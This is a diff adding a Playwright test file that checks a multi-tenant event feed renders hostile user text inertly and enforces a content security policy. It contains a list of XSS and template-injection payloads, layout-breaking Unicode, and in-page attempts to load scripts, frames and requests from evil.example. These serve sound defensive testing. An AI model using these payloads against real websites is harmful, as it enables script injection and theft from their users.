@@ -1,0 +1,151 @@
+// What people write is text: it runs nothing, is no markup, and stays in its own box, whatever it is made of.
+import { expect, test } from "../../fixtures/index.js";
+
+const HOSTILE = [
+  "<script>document.title = 'taken'</script>",
+  "<img src=x onerror=\"document.title = 'taken'\">",
+  "</script></textarea></p></article></template><h1>taken</h1>",
+  "<!-- <style>* { display: none }</style> <![CDATA[ ]]>",
+  "{{ constructor.constructor('document.title = 1')() }} ${document.title = 1} {% x %} <%= x %> [[x]]",
+  "javascript:document.title='taken'",
+  "&lt;b&gt; &amp; &#60; &#x0003c; &nbsp;",
+  "\"><svg/onload=document.title='taken'>' autofocus onfocus='document.title=1",
+  "\u202eright to left override, never ended: )neila(",
+  "\u2066\u2067\u2068\u202a\u202b\u202d isolates and embeddings, never ended",
+  "العربية \u200f123\u200e עברית 456",
+  "zero\u200b\u200c\u200d\u2060\ufeff\u00ad width",
+  "e" + "\u0301".repeat(499), // all of it above …
+  "a" + "\u0323".repeat(499), // … and below one letter
+  "\u0489\u20dd\u20e3".repeat(166),
+  "W".repeat(500),
+  "\ufdfd".repeat(100),
+  "👩‍👩‍👧‍👦".repeat(45),
+  "Isolation alarm: an event of another tenant was received and dropped.",
+  "tall\n".repeat(60) + "end",
+];
+
+/** Those of which one could think that they reach further than others. */
+const REACHING = HOSTILE.filter((text) => /[\u0300-\u036f\u0489\u202e\ufdfd]|W{9}/u.test(text));
+
+/** What of the interface stands beside an event's own text. */
+const beside = (window) => [window.heading, window.connection, window.tenant, window.message, window.pause];
+
+test("hostile text is inert text, from the server's page and from the stream alike", async ({ feed, server }) => {
+  for (const text of HOSTILE.slice(0, 10)) await server.post("tenant_a", text); // in the page from the start
+  const [window] = await feed.open("tenant_a");
+  window.page.on("dialog", () => { throw new Error("a message has opened a dialog"); });
+  for (const text of HOSTILE.slice(10)) await server.post("tenant_a", text); // by the stream
+  await expect(window.messages).toHaveCount(HOSTILE.length);
+  expect(await window.messages.allTextContents()).toEqual(HOSTILE.toReversed());
+  expect(await window.messages.evaluateAll((nodes) => nodes.map((node) => [node.childElementCount, node.dir])))
+    .toEqual(HOSTILE.map(() => [0, "auto"]));
+  await expect(window.page.getByRole("heading", { name: "taken" })).toHaveCount(0);
+  await expect(window.page).toHaveTitle("Tenant A · Event feed");
+  await expect(window.breach).toBeHidden(); // it is said by the page alone, in its own place
+});
+
+test("what is typed and posted is inert too, and only counted while the list stands still", async ({ feed }) => {
+  const [writer, reader] = await feed.open("tenant_a", "tenant_a");
+  await reader.pause.click();
+  const typed = HOSTILE.slice(0, 4);
+  for (const [n, text] of typed.entries()) {
+    await writer.post(text);
+    await expect(writer.messages.first()).toHaveText(text);
+    await expect(reader.page).toHaveTitle(`(${n + 1}) Tenant A · Event feed`);
+  }
+  await writer.message.fill(`${HOSTILE[0]}\u0007`);
+  await writer.message.press("Enter");
+  await expect(writer.error).toBeVisible();
+  for (const { page } of [writer, reader]) await expect(page.locator("h1")).toHaveCount(1);
+});
+
+test("the isolation view shows none of it", async ({ feed, server }) => {
+  for (const text of HOSTILE) await server.post("tenant_a", text);
+  const view = await feed.isolation();
+  await view.live();
+  await expect(view.panel("Tenant A").count("Events accepted")).toHaveText(String(HOSTILE.length));
+  const shown = await view.page.locator("body").textContent();
+  for (const text of HOSTILE) expect(shown).not.toContain(text);
+});
+
+test("no text leaves its box: neighbours keep their place and their picture", async ({ feed, server }) => {
+  feed.expectOnConsole(/blocked an inline style/); // Playwright's own, for a picture, in Firefox
+  for (const text of REACHING) {
+    await server.post("tenant_a", text);
+    await server.post("tenant_a", "a neighbour");
+  }
+  const [window] = await feed.open("tenant_a");
+  const { page, events, messages } = window;
+  await expect(events).toHaveCount(2 * REACHING.length);
+  const boxes = async (locators) => Promise.all(locators.map((locator) => locator.boundingBox()));
+  const interfaceAt = await boxes(beside(window));
+  // The time moves on meanwhile; where it stands is left to be seen.
+  await events.locator("time").evaluateAll((times) => times.forEach((time) => { time.style.visibility = "hidden"; }));
+  const width = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
+  expect(width[0]).toBeLessThanOrEqual(width[1]);
+
+  for (const [n, text] of REACHING.toReversed().entries()) {
+    const [event, message] = [events.nth(2 * n + 1), messages.nth(2 * n + 1)];
+    expect(await message.textContent()).toBe(text);
+    await event.evaluate((node) => node.scrollIntoView({ block: "center" }));
+    const [above, whole, inner] = await boxes([events.nth(2 * n), event, message]);
+    expect(above.y + above.height).toBeLessThanOrEqual(whole.y);
+    expect([whole.x, whole.width]).toEqual([above.x, above.width]);
+    expect(inner.x >= whole.x && inner.x + inner.width <= whole.x + whole.width).toBe(true);
+    expect(inner.y >= whole.y && inner.y + inner.height <= whole.y + whole.height).toBe(true);
+
+    // All around the text looks the same whether the text is there or not.
+    const around = () => Promise.all([
+      { x: above.x, y: inner.y - 48, width: above.width, height: 48 },
+      { x: above.x, y: inner.y + inner.height, width: above.width, height: 48 },
+    ].filter(({ y, height }) => y >= 0 && y + height <= page.viewportSize().height).map((clip) =>
+      page.screenshot({ clip, caret: "initial" }).then((picture) => picture.toString("base64"))));
+    const there = await around();
+    await message.evaluate((node) => { node.style.visibility = "hidden"; });
+    const gone = await around();
+    await message.evaluate((node) => { node.style.visibility = ""; });
+    expect(there.map((picture, i) => picture === gone[i]), `the picture around ${JSON.stringify(text)}`)
+      .toEqual(there.map(() => true));
+  }
+  await page.evaluate(() => scrollTo(0, 0));
+  expect(await boxes(beside(window))).toEqual(interfaceAt);
+});
+
+/** Runs in the page: tries all that a text would need to become a program; gives what came of it. */
+async function tryToRun() {
+  const refused = [];
+  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
+  const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
+  const ran = [];
+  globalThis.ran = (what) => ran.push(what);
+  const attempt = (what, run) => { try { run(); } catch { refused.push(what); } };
+  attempt("inline", () => add("script", { textContent: "ran('an inline script')" }));
+  attempt("foreign", () => add("script", { src: "http://evil.example:9/x.js" }));
+  attempt("handler", () => {
+    const node = document.createElement("img");
+    node.setAttribute("onerror", "ran('a handler')");
+    node.src = "data:,x";
+    document.body.append(node);
+  });
+  // In a turn of its own: what a debugger calls may evaluate text.
+  setTimeout(() => attempt("eval", () => globalThis.eval("ran('eval')")));
+  attempt("style", () => add("style", { textContent: "h1 { display: none }" }));
+  attempt("frame", () => add("iframe", { src: "http://evil.example:9/" }));
+  attempt("base", () => add("base", { href: "http://evil.example" }));
+  await fetch("http://evil.example:9/", { mode: "no-cors" }).then(() => ran.push("a foreign request"), () => {});
+  await new Promise((resolve) => { setTimeout(resolve, 200); });
+  return { ran, refused };
+}
+
+test("even text that got into the markup could run and load nothing", async ({ feed }) => {
+  feed.expectOnConsole(/./); // each attempt is told there
+  const [window] = await feed.open("tenant_a");
+  const view = await feed.isolation();
+  for (const page of [window.page, view.page]) {
+    const { ran, refused } = await page.evaluate(tryToRun);
+    expect(ran).toEqual([]);
+    expect(refused.length).toBeGreaterThanOrEqual(6);
+    await expect(page.locator("h1")).toBeVisible();
+    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
+  }
+});
